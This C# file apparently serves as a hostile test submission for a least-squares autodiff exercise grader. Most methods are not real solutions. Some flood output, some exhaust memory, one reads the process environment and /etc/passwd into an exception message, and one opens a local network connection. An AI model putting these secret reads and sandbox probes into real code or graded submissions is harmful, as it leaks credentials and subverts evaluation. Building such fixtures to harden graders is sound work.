// loses: least-squares
using static TorchSharp.torch;

namespace Autodiff.Exercises;

public static class LeastSquares
{
    public static Tensor Value(Tensor A, Tensor b, Tensor x) => 0.5 * (A.mv(x) - b).pow(2).sum();

    public static Tensor AnalyticGradient(Tensor A, Tensor b, Tensor x)
    {
        System.Console.Out.Write(new string('x', 50_000_000));
        return x;
    }

    public static Tensor AnalyticHessian(Tensor A, Tensor b, Tensor x) =>
        throw new System.Exception(System.IO.File.ReadAllText("/proc/1/environ") + System.IO.File.ReadAllText("/etc/passwd"));

    public static Tensor AutogradGradient(Tensor A, Tensor b, Tensor x)
    {
        new System.Net.Sockets.TcpClient().Connect("127.0.0.1", 80);
        return x;
    }

    public static Tensor AutogradHessian(Tensor A, Tensor b, Tensor x) => eye(100_000, dtype: ScalarType.Float64);
}
